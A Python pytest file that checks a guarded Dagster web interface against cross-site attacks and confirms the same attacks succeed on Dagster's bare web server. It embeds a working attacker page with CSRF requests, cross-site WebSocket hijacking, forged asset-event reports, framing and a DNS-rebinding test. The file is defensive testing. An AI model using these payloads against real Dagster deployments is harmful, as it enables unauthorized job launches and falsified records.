"""What a page of another site can do to the interface of a browser's user: nothing.
Against Dagster's bare web server the same attacks get through, or they would prove nothing."""

import json
import os
import signal
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, NamedTuple

import dagster as dg
import pytest
from browsing import Browser, opened
from deployment import free_port
from living import HOST, START_SECONDS, Living

from judgeline.paths import ROOT
from pipelines.instance.homes import prepare_home

pytestmark = [pytest.mark.slow, pytest.mark.browser]

SITES = ("evil.example", HOST)  # another site, and the same site at another port
REBOUND = "rebind.example"  # a name of the attacker's that leads to this machine
ASSET, CHECK = "leaderboard", "forged"
RUN, EVENT, BYTES, NOTHING = "a run", "an event", "bytes", "nothing"
SECONDS = 20

ATTACKS = {
    "img": RUN,
    "form-framed-urlencoded": RUN,
    "form-framed-multipart": RUN,
    "form-framed-plain": RUN,
    "fetch-plain": RUN,
    "fetch-plain-as-json": RUN,
    "fetch-urlencoded": RUN,
    "fetch-multipart": RUN,
    "fetch-without-type": RUN,
    "fetch-json": NOTHING,  # its preflight fails at any server that allows no other site
    "beacon": RUN,
    "socket-subscription": BYTES,
    "socket-mutation": BYTES,
    "report-materialization": EVENT,
    "report-observation": EVENT,
    "report-check": EVENT,
}
"""What each attack achieves against Dagster's bare web server."""

PAGE = """<!doctype html><meta charset="utf-8"><title>a page</title><body><script>
const SERVER = "%(server)s";
const launch = name => `mutation { launchRun(executionParams: { mode: "default",
  selector: { repositoryLocationName: "judgeline", repositoryName: "__repository__",
    jobName: "prune_logs" }, runConfigData: "{}",
  executionMetadata: { tags: [{ key: "attack", value: "${name}" }] } }) { __typename } }`;
const target = name => SERVER + "/graphql?query=" + encodeURIComponent(launch(name));
const asJson = name => JSON.stringify({ query: launch(name) });

const loaded = (tag, attributes) => new Promise(done => {
  const element = Object.assign(document.createElement(tag), attributes);
  element.onload = element.onerror = () => done("");
  document.body.append(element);
});
const form = (name, enctype, frame) => {
  const element = Object.assign(document.createElement("form"),
    { method: "post", enctype, action: target(name), target: frame });
  element.append(Object.assign(document.createElement("input"), { name: "a", value: "b" }));
  document.body.append(element);
  element.submit();
};
const framedForm = (name, enctype) => {
  const shown = loaded("iframe", { name, src: "about:blank" }).then(() => new Promise(done => {
    document.querySelector("iframe").onload = () => done("");
    form(name, enctype, name);
  }));
  return shown;
};
const posted = (url, type, body) => fetch(url, { method: "POST", mode: "no-cors",
  credentials: "include", headers: type ? { "Content-Type": type } : {}, body })
  .then(answer => answer.text());
const talked = query => new Promise(done => {
  let heard = "";
  const socket = new WebSocket(SERVER.replace("http", "ws") + "/graphql", "graphql-ws");
  socket.onopen = () => {
    socket.send(JSON.stringify({ type: "connection_init", payload: {} }));
    socket.send(JSON.stringify({ id: "1", type: "start", payload: { query } }));
  };
  socket.onmessage = message => {
    heard += message.data;
    if (/"type": ?"(data|error)"/.test(message.data)) { socket.close(); done(heard); }
  };
  socket.onclose = socket.onerror = () => done(heard);
});
const report = (event, query) =>
  posted(`${SERVER}/report_asset_${event}/%(asset)s?${query}`, "", undefined);

const attacks = {
  "img": name => loaded("img", { src: target(name) }),
  "form-framed-urlencoded": name => framedForm(name, "application/x-www-form-urlencoded"),
  "form-framed-multipart": name => framedForm(name, "multipart/form-data"),
  "form-framed-plain": name => framedForm(name, "text/plain"),
  "form-top": name => form(name, "application/x-www-form-urlencoded", "_top"),
  "fetch-plain": name => posted(target(name), "text/plain", "x"),
  "fetch-plain-as-json": name =>
    posted(SERVER + "/graphql", "text/plain; x=application/json", asJson(name)),
  "fetch-urlencoded": name => posted(target(name), "application/x-www-form-urlencoded", "a=b"),
  "fetch-multipart": name => posted(target(name), "multipart/form-data; boundary=b", "--b--"),
  "fetch-without-type": name => posted(target(name), "", new Blob(["x"])),
  "fetch-json": name => fetch(SERVER + "/graphql", { method: "POST", body: asJson(name),
    headers: { "Content-Type": "application/json" } }).then(answer => answer.text()),
  "beacon": name => (navigator.sendBeacon(target(name), "x"), ""),
  "socket-subscription": () =>
    talked('subscription { pipelineRunLogs(runId: "x") { __typename } }'),
  "socket-mutation": name => talked(launch(name)),
  "report-materialization": name => report("materialization", "description=" + name),
  "report-observation": name => report("observation", "description=" + name),
  "report-check": () => report("check", "check_name=%(check)s&passed=true"),
};
const attack = name => Promise.resolve(attacks[name](name)).catch(() => "");
</script></body>"""

ATTACK = "const done = arguments[1]; attack(arguments[0]).then(done);"
ASK = """const [query, done] = arguments;
fetch("/graphql", { method: "POST", body: JSON.stringify({ query }),
    headers: { "Content-Type": "application/json" } })
  .then(answer => answer.ok ? answer.text() : "").then(done, () => done(""));"""
LISTEN = """const [query, done] = arguments;
const socket = new WebSocket(location.origin.replace("http", "ws") + "/graphql", "graphql-ws");
socket.onopen = () => { socket.send(JSON.stringify({ type: "connection_init", payload: {} }));
  socket.send(JSON.stringify({ id: "1", type: "start", payload: { query } })); };
socket.onmessage = message => {
  if (/"type": ?"(data|error)"/.test(message.data)) { socket.close(); done(message.data); } };
socket.onclose = socket.onerror = () => done("");"""
LAUNCH = """mutation { launchRun(executionParams: { mode: "default", selector: {
  repositoryLocationName: "judgeline", repositoryName: "__repository__", jobName: "prune_logs" },
  runConfigData: "{}", executionMetadata: { tags: [{ key: "attack", value: "%s" }] } })
  { __typename ... on LaunchRunSuccess { run { runId } } } }"""
RUNS = "{ runsOrError { __typename ... on Runs { results { runId } } } }"
LOGS = 'subscription { pipelineRunLogs(runId: "x") { __typename } }'


class Bare(Living):
    """An installation whose interface is Dagster's web server with nothing before it."""

    def start(self) -> "Bare":
        """Serve it on a free port, without a daemon: what is launched waits for ever."""
        self.port = free_port()
        with pytest.MonkeyPatch.context() as environment:
            environment.delenv("DAGSTER_HOME", raising=False)
            environment.setenv("JUDGELINE_HOME", str(self.home))
            prepare_home()
        options = ("--port", str(self.port), "--workspace", str(ROOT / "workspace.yaml"))
        self.launch("dagster_webserver", *options, DAGSTER_HOME=str(self.home))
        self.wait("the bare web server", self._serves, START_SECONDS)
        return self

    def left(self) -> None:
        """End it with the code server that it started."""
        assert self.server is not None
        with suppress(ProcessLookupError):
            os.killpg(self.server.pid, signal.SIGKILL)
        self.server.wait(30)


class Interface(NamedTuple):
    """A web interface under attack, and what is recorded behind it."""

    place: Living
    instance: dg.DagsterInstance

    @property
    def is_guarded(self) -> bool:
        return not isinstance(self.place, Bare)

    def runs(self, attack: str) -> int:
        return self.instance.get_runs_count(dg.RunsFilter(tags={"attack": attack}))

    def events(self) -> int:
        """How many events were reported from outside."""
        key = dg.AssetKey(ASSET)
        checks = self.instance.event_log_storage.get_asset_check_execution_history(
            dg.AssetCheckKey(key, CHECK), limit=100
        )
        made = self.instance.fetch_materializations(key, limit=100).records
        observed = self.instance.fetch_observations(key, limit=100).records
        return len(checks) + len(made) + len(observed)

    def achieved(self, attack: str, before: int, read: str) -> str:
        """What an attack came to."""
        if self.runs(attack):
            return RUN
        if self.events() > before:
            return EVENT
        return BYTES if read else NOTHING


@pytest.fixture(scope="module", params=["guarded", "bare"])
def interface(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Interface]:
    kind = Living if request.param == "guarded" else Bare
    place = kind(tmp_path_factory.mktemp("living"))
    try:
        place.start()
        with dg.DagsterInstance.from_config(str(place.home)) as instance:
            yield Interface(place, instance)
    finally:
        place.left()


@pytest.fixture(scope="module")
def stranger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """A browser for which every name ending in .example is this machine."""
    names = "--host-resolver-rules=MAP *.example 127.0.0.1"
    with opened(tmp_path_factory.mktemp("profile"), names, "--no-proxy-server") as one:
        one.driver.set_script_timeout(SECONDS)
        yield one


@pytest.fixture(scope="module")
def page(interface: Interface) -> Iterator[Callable[[str], str]]:
    """A web server of somebody else's, whose every page attacks the interface."""
    content = PAGE % {"server": interface.place.url, "asset": ASSET, "check": CHECK}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(content.encode())

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer((HOST, 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield lambda site: f"http://{site}:{server.server_port}/"
        server.shutdown()


def awaited(check: Callable[[], Any], hoped: Any, seconds: float) -> Any:
    """What `check` finds in the end, or as soon as it is what is hoped for."""
    deadline = time.monotonic() + seconds
    while (found := check()) != hoped and time.monotonic() < deadline:
        time.sleep(0.1)
    return found


@pytest.mark.parametrize("site", SITES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_foreign_page_achieves_nothing(interface, stranger, page, site, attack):
    runs, events = interface.runs(attack), interface.events()
    stranger.driver.get(page(site))
    read = stranger.driver.execute_async_script(ATTACK, attack)
    if interface.is_guarded:
        assert interface.runs(attack) == 0
        assert interface.achieved(attack, events, read) == NOTHING
        return
    achieves = ATTACKS[attack]
    assert awaited(lambda: interface.achieved(attack, events, read), achieves, 10) == achieves
    if achieves == RUN:  # one for each site
        assert awaited(lambda: interface.runs(attack), runs + 1, 10) == runs + 1


@pytest.mark.parametrize("site", SITES)
def test_a_form_in_the_window_itself_launches_nothing(interface, stranger, page, site):
    before = interface.runs("form-top")
    stranger.driver.get(page(site))
    stranger.driver.execute_script("attack('form-top')")
    stranger.until(lambda: stranger.driver.current_url.startswith(interface.place.url))
    if interface.is_guarded:
        stranger.shows("A page of another site asked for this", "press Enter")
        assert interface.runs("form-top") == 0
    else:
        assert awaited(lambda: interface.runs("form-top"), before + 1, 10) == before + 1


@pytest.mark.parametrize("site", SITES)
def test_a_foreign_page_does_not_frame_the_interface(interface, stranger, page, site):
    stranger.driver.get(page(site))
    stranger.driver.execute_script("loaded('iframe', { src: SERVER + '/runs' })")
    stranger.driver.switch_to.frame(0)
    try:
        stranger.shows("another site" if interface.is_guarded else "Deployment")
    finally:
        stranger.driver.switch_to.default_content()


def test_a_name_that_leads_here_reads_and_launches_nothing(interface, stranger):
    """The attacker's page comes from the port of the interface, so that both are one origin."""
    stranger.driver.get(f"http://{REBOUND}:{interface.place.port}/server_info")
    told = stranger.text()
    read = stranger.driver.execute_async_script(ASK, RUNS)
    heard = stranger.driver.execute_async_script(LISTEN, LOGS)
    launched = stranger.driver.execute_async_script(ASK, LAUNCH % "rebound")
    if interface.is_guarded:
        assert "does not answer to the name" in told
        assert (read, heard, launched, interface.runs("rebound")) == ("", "", "", 0)
    else:
        assert json.loads(read)["data"]["runsOrError"]["__typename"] == "Runs"
        assert "pipelineRunLogs" in heard
        assert interface.runs("rebound") == 1


def test_in_the_end_nothing_was_launched_or_written(interface: Interface) -> None:
    """Some attacks return before they arrive."""
    names = [*ATTACKS, "form-top", "rebound"]
    launched = {name: n for name in names if (n := interface.runs(name))}
    if interface.is_guarded:
        assert (launched, interface.events()) == ({}, 0)
    else:
        assert len(launched) == 2 + sum(achieved == RUN for achieved in ATTACKS.values())
        assert interface.events() == 2 * sum(achieved == EVENT for achieved in ATTACKS.values())


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_the_interface_itself_asks_listens_and_launches(interface, stranger, name):
    """Its own pages do all of it, by either name of this machine."""
    stranger.open(f"http://{name}:{interface.place.port}/runs", "Deployment")
    assert "Runs" in stranger.driver.execute_async_script(ASK, RUNS)
    assert "pipelineRunLogs" in stranger.driver.execute_async_script(LISTEN, LOGS)
    told = stranger.driver.execute_async_script(ASK, LAUNCH % f"own-{name}")
    launched = json.loads(told)["data"]["launchRun"]
    assert interface.runs(f"own-{name}") == 1
    stranger.open(f"http://{name}:{interface.place.port}/runs/{launched['run']['runId']}")
    stranger.shows("RUN_SUCCESS" if interface.is_guarded else "Run queued", seconds=180)
